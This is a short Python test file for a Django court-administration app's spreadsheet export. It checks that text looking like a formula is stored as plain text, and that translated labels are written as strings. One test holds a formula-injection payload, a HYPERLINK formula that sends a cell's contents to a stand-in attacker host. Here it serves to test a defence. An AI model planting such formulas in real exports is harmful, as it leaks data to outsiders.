"""Every export's cells: text stays text (OWASP formula injection), dates and numbers stay
what they are."""

from datetime import date
from io import BytesIO

from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from courtadmin.core.workbooks import single_sheet


def test_a_text_that_looks_like_a_formula_is_written_as_text():
    typed = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
    content = single_sheet("Sheet", ["Name", "Date", "Count"], [[typed, date(2026, 11, 2), 3]])
    sheet = load_workbook(BytesIO(content)).active
    name, day, count = sheet[2]
    assert name.value == typed and name.data_type == "s"
    assert day.value.date() == date(2026, 11, 2) and count.value == 3
    assert sheet["A1"].value == "Name"


def test_a_lazy_translation_is_written_as_its_text():
    content = single_sheet(gettext_lazy("Complaints"), [gettext_lazy("Status")], [])
    sheet = load_workbook(BytesIO(content)).active
    assert isinstance(sheet["A1"].value, str) and sheet["A1"].value
